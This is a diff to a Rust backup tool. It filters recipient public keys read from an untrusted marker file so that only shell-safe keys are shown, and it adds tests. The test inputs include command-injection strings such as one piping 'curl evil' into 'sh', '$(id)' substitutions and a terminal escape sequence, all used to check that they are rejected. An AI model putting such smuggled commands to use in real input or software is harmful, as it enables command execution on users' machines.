@@ -7,16 +7,42 @@ use serde::{Deserialize, Serialize};
 /// Made by `init`. It names public keys only, and nothing is encrypted to what it names: who can write there could change it.
 const MARKER: &str = ".backup-encrypted";
 const LARGEST: u64 = 1 << 20;
+/// More keys, and longer ones in bytes, are not repeated to anybody: the longest of use, of RSA with 16384 bits, has 2800.
+const MOST_KEYS: usize = 16;
+const LONGEST_KEY: usize = 4096;
 
 #[derive(Default, Serialize, Deserialize)]
 struct Marker {
     recipients: Vec<String>,
 }
 
+impl Marker {
+    /// Whatever stands in it, it is a marker. Of the keys, only what can be shown and pasted into a shell without harm is left.
+    fn read(bytes: &[u8]) -> Self {
+        let Marker { recipients } = serde_json::from_slice(bytes).unwrap_or_default();
+        Marker { recipients: recipients.iter().filter_map(|key| public_key(key)).take(MOST_KEYS).collect() }
+    }
+}
+
+/// The public key in a text that anybody may have written, without the remark at its end; `None` if it does not look like one.
+fn public_key(text: &str) -> Option<String> {
+    let all = |text: &str, also: &str| {
+        let fits = |c: char| c.is_ascii_alphanumeric() || also.contains(c);
+        !text.is_empty() && text.len() <= LONGEST_KEY && text.chars().all(fits)
+    };
+    if let Some(rest) = text.strip_prefix("age1") {
+        return (all(rest, "") && !rest.contains(|c: char| c.is_ascii_uppercase())).then(|| text.to_owned());
+    }
+    let mut words = text.split(' ');
+    let (kind, key) = (words.next()?, words.next()?);
+    (kind.starts_with("ssh-") && all(kind, "-") && all(key, "+/=")).then(|| format!("{kind} {key}"))
+}
+
 /// What a folder says of encryption.
 struct Found {
     marker: Option<Marker>,
     encrypted: usize,
+    /// Those that have a sidecar: tars of other programs are no backups.
     plain: usize,
 }
 
@@ -24,8 +50,7 @@ async fn look(destination: &dyn Destination) -> Result<Found> {
     let absent = |e: &Error| e.kind() == ErrorKind::NotFound;
     let marker = match destination.read_small(MARKER, LARGEST).await {
         Err(e) if absent(&e) => None,
-        // Whatever stands in it, it is there.
-        read => read?.map(|bytes| serde_json::from_slice::<Marker>(&bytes).unwrap_or_default()),
+        read => read?.map(|bytes| Marker::read(&bytes)),
     };
     let all = match destination.list().await {
         Err(e) if absent(&e) => Vec::new(),
@@ -34,7 +59,10 @@ async fn look(destination: &dyn Destination) -> Result<Found> {
     let is_backup = |name: &&str| Compression::of_name(name).is_some() && !name.starts_with('.');
     let names = all.iter().map(|s| s.name.as_str()).filter(is_backup);
     let (encrypted, plain): (Vec<_>, Vec<_>) = names.partition(|n| name::is_encrypted(n));
-    Ok(Found { marker, encrypted: encrypted.len(), plain: plain.len() })
+    // The listing is sorted by name.
+    let is_there = |name: String| all.binary_search_by(|s| s.name.cmp(&name)).is_ok();
+    let plain = plain.into_iter().filter(|n| is_there(name::manifest_sidecar(n))).count();
+    Ok(Found { marker, encrypted: encrypted.len(), plain })
 }
 
 impl PortableArchive {
@@ -94,5 +122,62 @@ impl PortableArchive {
         let marker = Marker { recipients: recipients.iter().filter(is_key).cloned().collect() };
         let bytes = serde_json::to_vec_pretty(&marker).map_err(Error::contract)?;
         self.destination().write_small(MARKER, &bytes).await
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{Archive, Context, portable::PortableOptions};
+    use std::path::Path;
+
+    fn with(folder: &Path, files: &[&str]) -> PortableArchive {
+        files.iter().for_each(|name| std::fs::write(folder.join(name), "").unwrap());
+        PortableArchive::folder(folder, PortableOptions::default()).unwrap()
+    }
+
+    #[tokio::test]
+    async fn a_tar_of_another_program_does_not_allow_plain_backups_where_all_are_encrypted() {
+        let dir = tempfile::tempdir().unwrap();
+        let archive = with(dir.path(), &["a-backup.tar.zst.age", "photos.tar.gz"]);
+        let e = archive.preflight(None, &Context::default()).await.unwrap_err();
+        assert!(e.message().contains("only encrypted backups"), "{e}");
+        // A plain backup, which has a sidecar, says that both are kept there.
+        with(dir.path(), &["b-backup.tar.zst", "b-backup.tar.zst.manifest.json"]);
+        archive.preflight(None, &Context::default()).await.unwrap();
+    }
+
+    #[tokio::test]
+    async fn a_key_that_anybody_wrote_into_the_marker_is_repeated_only_if_it_is_harmless_in_a_shell() {
+        let dir = tempfile::tempdir().unwrap();
+        let archive = with(dir.path(), &[]);
+        let said = async |recipients: &[&str]| {
+            let marker = serde_json::json!({ "recipients": recipients });
+            std::fs::write(dir.path().join(MARKER), marker.to_string()).unwrap();
+            let forgotten = archive.preflight(None, &Context::default()).await.unwrap_err();
+            let again = archive.refuse_new_keys().await.unwrap_err();
+            (forgotten.hint_text().unwrap().to_owned(), again.to_string())
+        };
+        let long = format!("age1{}", "q".repeat(LONGEST_KEY + 1));
+        for bad in [
+            "age1x'; curl evil | sh #",
+            "age1\u{1b}[2J",
+            "age1",
+            "age1X",
+            "--to",
+            "$(id)",
+            "ssh-ed25519",
+            "ssh-ed25519 AA'BB",
+            "ssh-$(id) AAAA",
+            &long,
+        ] {
+            let (hint, again) = said(&[bad]).await;
+            assert!(hint.starts_with("--recipient age1…,"), "{bad:?}: {hint}");
+            assert!(again.ends_with("it has keys already: "), "{bad:?}: {again}");
+        }
+        let (hint, again) = said(&["$(id)", "age1abc", "ssh-ed25519 AA+/b= it's mine; $(id)"]).await;
+        assert!(hint.starts_with("--recipient 'age1abc' (compare"), "{hint}");
+        assert!(again.ends_with("it has keys already: age1abc, ssh-ed25519 AA+/b="), "{again}");
+        assert_eq!(said(&["age1a"; 999]).await.1.matches("age1a").count(), MOST_KEYS);
     }
 }
